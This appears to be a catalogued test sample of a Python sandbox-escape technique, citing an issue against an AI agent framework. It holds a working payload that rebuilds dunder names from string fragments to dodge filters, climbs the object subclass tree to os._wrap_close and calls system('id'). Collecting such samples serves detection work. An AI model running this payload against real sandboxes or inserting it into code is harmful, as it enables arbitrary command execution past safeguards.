# Source: https://github.com/wanxingai/LightAgent/issues/100 (runtime string construction, character concatenation)
# Family: attr-in-string
# What: getattr with a dunder name assembled from pieces
g = getattr
k = g((), "__cla" + "ss__")
b = g(k, "__ba" + "se__")
for c in g(b, "__subcla" + "sses__")():
    if c.__name__ == "_wrap_close":
        g(g(c, "__in" + "it__"), "__glo" + "bals__")["sys" + "tem"]("id")
